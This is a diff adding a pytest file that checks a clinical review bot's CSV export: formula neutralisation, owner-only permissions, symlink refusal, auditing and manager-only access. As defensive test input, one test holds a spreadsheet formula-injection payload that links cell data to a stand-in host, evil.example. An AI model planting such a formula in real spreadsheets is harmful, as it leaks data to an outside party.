@@ -1,0 +1,138 @@
+"""The export is safe to open and to keep: no formulas, owner-only identifiers, audited,
+and, from the core, for managers (and the operator at the command line) only."""
+
+from __future__ import annotations
+
+import csv
+import getpass
+import json
+import os
+import stat
+from datetime import UTC, datetime
+from pathlib import Path
+
+import pytest
+from sqlmodel import select
+
+from reviews import service
+from reviews.context import Actor, Services
+from reviews.export import ExportError, write_export
+from reviews.model import Outcome
+from storage.tables import ReviewEvent
+from tests.support.builders import NURSE, OUTREACH, make_services, on_rota, request
+from tests.support.process import run_bot
+
+JULY = datetime(2026, 7, 31, 12, 0, tzinfo=UTC)
+
+
+@pytest.fixture
+def services(db, clock) -> Services:
+    clock.at = JULY
+    on_rota(db, "outreach", OUTREACH.name, OUTREACH.user_id, clock.now(), hours=24)
+    return make_services(db, clock, managers=frozenset({"mo.manager@nhs.net"}))
+
+
+def cells(path: Path) -> list[str]:
+    with path.open(newline="", encoding="utf-8") as file:
+        return [cell for row in csv.reader(file) for cell in row]
+
+
+def test_no_cell_starts_a_formula(services: Services, tmp_path: Path) -> None:
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Ward 7")'
+    for ward in (hostile, "+SUM(1)", "-2+3", "@cmd", "\tWard", "\rWard"):
+        service.raise_review(
+            services=services,
+            request=request(ward=f"x{ward}"[1:], callback_number="+44 7700 900123"),
+            by=NURSE,
+        )
+    service.record_outcome(
+        services=services, review_id=1, by=OUTREACH, outcome=Outcome.TRANSFER, detail="ICU"
+    )
+    path = write_export(
+        services=services, month="2026-07", out=tmp_path / "july.csv", with_identifiers=True
+    )
+    written = cells(path)
+    assert not [cell for cell in written if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert f"'{hostile}" in written and "'+44 7700 900123" in written
+
+
+def test_identifiers_are_owner_only_even_over_an_old_file(
+    services: Services, tmp_path: Path
+) -> None:
+    service.raise_review(services=services, request=request(), by=NURSE)
+    old = tmp_path / "july-WITH-IDENTIFIERS.csv"
+    old.write_text("old contents that were much longer than the new export will be\n" * 500)
+    old.chmod(0o644)
+    path = write_export(services=services, month="2026-07", out=old, with_identifiers=True)
+    assert path == old and stat.S_IMODE(path.stat().st_mode) == 0o600
+    assert "old contents" not in path.read_text(encoding="utf-8")
+
+
+def test_a_symlink_is_refused_and_its_target_untouched(services: Services, tmp_path: Path) -> None:
+    service.raise_review(services=services, request=request(), by=NURSE)
+    target = tmp_path / "shared-folder-file.csv"
+    target.write_text("keep me")
+    target.chmod(0o644)
+    link = tmp_path / "july-WITH-IDENTIFIERS.csv"
+    link.symlink_to(target)
+    with pytest.raises(ExportError, match="symbolic link"):
+        write_export(services=services, month="2026-07", out=link, with_identifiers=True)
+    assert target.read_text() == "keep me" and stat.S_IMODE(target.stat().st_mode) == 0o644
+    assert audit(services) == []
+
+
+def audit(services: Services) -> list[ReviewEvent]:
+    with services.db.unit_of_work() as uow:
+        return [e for e in uow.session.exec(select(ReviewEvent)) if e.kind.startswith("export")]
+
+
+def test_every_identifiable_export_is_audited(services: Services, tmp_path: Path) -> None:
+    service.raise_review(services=services, request=request(), by=NURSE)
+    write_export(services=services, month="2026-07", out=tmp_path / "a.csv", with_identifiers=False)
+    assert audit(services) == []
+    write_export(services=services, month="2026-07", out=tmp_path / "b.csv", with_identifiers=True)
+    [event] = audit(services)
+    assert (event.kind, event.platform, event.actor_id) == (
+        "export_with_identifiers",
+        "cli",
+        getpass.getuser(),
+    )
+    detail = json.loads(event.detail)
+    assert detail["month"] == "2026-07" and detail["requests"] == 1
+    assert detail["path"].endswith("b-WITH-IDENTIFIERS.csv")
+
+
+@pytest.mark.parametrize(
+    ("who", "allowed"),
+    [
+        (Actor(platform="slack", user_id="U0MANAGER", name="Mo", email="mo.manager@nhs.net"), True),
+        (NURSE, False),
+        (OUTREACH, False),
+    ],
+)
+def test_exports_are_for_managers(
+    services: Services, tmp_path: Path, who: Actor, allowed: bool
+) -> None:
+    out = tmp_path / "july.csv"
+    if allowed:
+        write_export(services=services, month="2026-07", out=out, with_identifiers=False, by=who)
+        assert out.exists()
+    else:
+        with pytest.raises(service.NotAllowed, match="Only managers"):
+            write_export(
+                services=services, month="2026-07", out=out, with_identifiers=False, by=who
+            )
+        assert not out.exists()
+
+
+@pytest.mark.slow
+def test_the_command_line_export_over_an_existing_file(tmp_path: Path) -> None:
+    out = tmp_path / "july-WITH-IDENTIFIERS.csv"
+    out.write_text("old")
+    os.chmod(out, 0o644)
+    result = run_bot(
+        "export", "--month", "2026-07", "--out", str(out), "--with-identifiers",
+        cwd=tmp_path, DATABASE_URL=f"sqlite:///{tmp_path}/rr.db",
+    )  # fmt: skip
+    assert result.returncode == 0, result.stderr
+    assert stat.S_IMODE(out.stat().st_mode) == 0o600
